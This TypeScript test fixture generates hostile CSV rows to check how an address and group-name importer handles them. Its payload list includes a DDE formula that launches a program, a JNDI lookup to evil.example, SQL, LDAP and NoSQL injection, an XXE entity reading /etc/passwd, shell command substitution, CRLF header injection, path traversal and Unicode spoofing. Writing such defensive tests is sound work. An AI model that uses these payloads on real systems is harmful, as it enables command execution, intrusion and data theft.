import { report, type Entry } from './entry.ts';

interface Payload {
  readonly what: string;
  readonly text: string;
  /** Whether an address may begin with it: `<text>@acme.example`. */
  readonly inAddress: boolean;
  /** What is left of it as a group's name; `undefined` where it makes the row invalid, empty where nothing is left. */
  readonly asName: string | undefined;
}

const fits = (what: string, text: string): Payload => ({ what, text, inAddress: true, asName: text });
const noAddress = (what: string, text: string, asName: string | undefined = text): Payload => ({
  what,
  text,
  inAddress: false,
  asName,
});
const neither = (what: string, text: string): Payload => ({ what, text, inAddress: false, asName: undefined });

const PAYLOADS: readonly Payload[] = [
  noAddress('a formula that runs a program', `=cmd|' /C calc'!A0`),
  fits('a formula', '=1+1'),
  fits('a sum', '+1+1'),
  fits('a difference', '-2+3'),
  noAddress('an old Lotus formula', '@SUM(1;2)'),
  neither('an escaped formula', "'=1+1"),
  neither('a formula that was escaped twice', "''=1+1"),
  noAddress('an apostrophe', "'"),
  { ...fits('a formula behind a tab', '\t=1'), asName: '=1' },
  { ...fits('a formula behind a carriage return', '\r=1'), asName: '=1' },
  { ...fits('a formula behind a no-break space', '\u00A0=1'), asName: '=1' },
  fits('a formula of full width', '\uFF1D1'),
  noAddress('a step up', '../../admin'),
  fits('a step up behind a letter', 'a/../../admin'),
  noAddress('two dots', '..'),
  noAddress('one dot', '.'),
  noAddress('an encoded step up', '..%2f..%2fadmin'),
  fits('a doubly encoded step up', '%252e%252e%252f'),
  fits('a query', 'a?expand=all&admin=true#top'),
  noAddress('a path parameter', 'a;jsessionid=1'),
  fits('an encoded zero', 'a%00b'),
  fits('a lone percent sign', '100%'),
  fits('a plus', 'a+b'),
  noAddress('a Windows path', String.raw`C:\Windows\..\system32`),
  noAddress('a URL with credentials', 'https://admin:secret@evil.example/'),
  noAddress('a header behind CRLF', 'x\r\nX-Evil: 1'),
  noAddress('a header behind LF', 'x\nSet-Cookie: a=b'),
  noAddress('an encoded CRLF', 'x%0d%0aX-Evil:1'),
  noAddress('a header behind a character that truncates to LF', 'x\u560AX-Evil:1'),
  noAddress('JSON that closes its own', '"}],"admin":true,"x":[{"'),
  noAddress('an operator of a document store', '{"$ne":null}'),
  fits('a prototype', '__proto__'),
  fits('a constructor', 'constructor'),
  noAddress('a template', '${7*7}{{7*7}}<%=7*7%>'),
  noAddress('a log look-up', '${jndi:ldap://evil.example/a}'),
  noAddress('a script', '<script>alert(1)</script> x'),
  noAddress('SQL', "' OR '1'='1' --"),
  noAddress('LDAP', '*)(uid=*))(|(uid=*'),
  noAddress('an XML entity', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>'),
  noAddress('a shell command', '$(touch /tmp/x); `id`'),
  fits('a printf pattern', '%s%n%x'),
  noAddress('an emoji of several joined', '👩\u200D👩\u200D👧'),
  fits('combining marks', 'Z͑ͫ̓a̴l̡g̢o'),
  noAddress('a right-to-left override', 'a\u202Egpj.exe'),
  noAddress('a zero-width space inside', 'a\u200Bb'),
  { ...fits('a zero-width space in front', '\u200Bab'), asName: 'ab' },
  { ...fits('a byte order mark in front', '\uFEFFab'), asName: 'ab' },
  { ...noAddress('a line separator', 'a\u2028b') },
  { ...noAddress('a next-line character', 'a\u0085b') },
  noAddress('a non-character', 'a\uFFFF\uFFFEb'),
  noAddress('a private character', 'a\uE000b'),
  neither('a replacement character', 'a\uFFFDb'),
  neither('a bell', 'a\u0007b'),
  neither('an escape sequence', '\u001B[31mred\u001B[0m'),
  neither('a deletion', 'a\u007Fb'),
  noAddress('only spaces', '   ', ''),
  noAddress('only zero-width spaces', '\u200B\u200B', ''),
  fits('null', 'null'),
  fits('NaN', 'NaN'),
  fits('a number that a float cannot hold', '123456789012345678901234567890'),
  fits('true', 'TRUE'),
  fits('a name of ours', 'rollcall_status'),
  { ...noAddress('all delimiters and quotes', '",;|\t"\n,"'), asName: '",;|\t"\n,"' },
];

/** The texts themselves. */
export const HOSTILE_TEXTS: readonly string[] = PAYLOADS.map(({ text }) => text);

const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;
const PLAIN = { email: 'ann@acme.example', groupName: 'staff' };
/** A second row that nothing is wrong with: it must not suffer. */
const OTHER = { email: 'bob@acme.example', groupName: 'staff' };

function entry(place: string, payload: Payload, given: { readonly header?: string; readonly row: readonly string[] }) {
  const header = given.header === undefined ? 'Note' : quoted(given.header);
  const other = [OTHER.email, OTHER.groupName, 'fine'];
  const text = `email,group,${header}\r\n${given.row.map(quoted).join(',')}\r\n${other.map(quoted).join(',')}\r\n`;
  return { name: `${payload.what} ${place}`, bytes: () => Buffer.from(text) };
}

const inAddress = (payload: Payload): Entry => {
  const email = `${payload.text}@acme.example`;
  const cells = [{ email: trimmed(email), groupName: 'staff' }, OTHER];
  return {
    ...entry('in an address', payload, { row: [email, 'staff', ''] }),
    ending: payload.inAddress ? report(2, { cells }) : report(2, { invalid: 1, cells: [OTHER] }),
  };
};

const asName = (payload: Payload): Entry => {
  const cells = [{ ...PLAIN, groupName: payload.asName ?? '' }, OTHER];
  return {
    ...entry("as a group's name", payload, { row: [PLAIN.email, payload.text, ''] }),
    ending: payload.asName ? report(2, { cells }) : report(2, { invalid: 1, cells: [OTHER] }),
  };
};

const carried = (payload: Payload): Entry => ({
  ...entry('in a column that is carried along', payload, { row: [PLAIN.email, PLAIN.groupName, payload.text] }),
  ending: report(2, { cells: [PLAIN, OTHER], carried: ['Note'] }),
});

/** A name that is blank or one of ours is no column that is carried. */
const asHeader = (payload: Payload): Entry => ({
  ...entry("as a column's name", payload, { header: payload.text, row: [PLAIN.email, PLAIN.groupName, 'x'] }),
  ending: report(2, {
    cells: [PLAIN, OTHER],
    carried: payload.asName === '' || payload.text.startsWith('rollcall_') ? [] : [payload.text],
  }),
});

const trimmed = (email: string): string => email.replace(/^[\s\u200B\uFEFF]+/, '');

/** Every hostile text in every place where a cell can stand. */
export const HOSTILE_CELLS: readonly Entry[] = PAYLOADS.flatMap((payload) => [
  inAddress(payload),
  asName(payload),
  carried(payload),
  asHeader(payload),
]);
